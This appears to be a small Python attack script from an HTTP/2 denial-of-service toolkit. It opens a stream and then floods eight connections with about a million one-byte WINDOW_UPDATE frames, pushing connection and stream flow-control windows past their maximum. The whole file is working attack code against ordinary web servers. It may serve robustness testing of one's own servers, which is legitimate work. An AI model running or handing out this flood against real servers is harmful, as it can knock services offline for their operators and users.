"""WINDOW_UPDATE frames of one byte each, for the connection and for an open stream; up to the largest window and past it."""
from attack_program import MATCH, program
from h2wire import END_HEADERS, HEADERS, WINDOW_UPDATE, frame, request_block

AT_ONCE = 1_000


def run(attack):
    headers = request_block(MATCH)

    def block(connection, _):
        begin = b""
        if connection.next_stream == 1:
            begin = frame(HEADERS, END_HEADERS, connection.stream(), headers)
        return begin + (frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") + frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")) * AT_ONCE
    attack.flood(block, attack.options.count // AT_ONCE)


if __name__ == "__main__":
    program(__doc__, run, count=1_000_000, connections=8, megabytes=40)
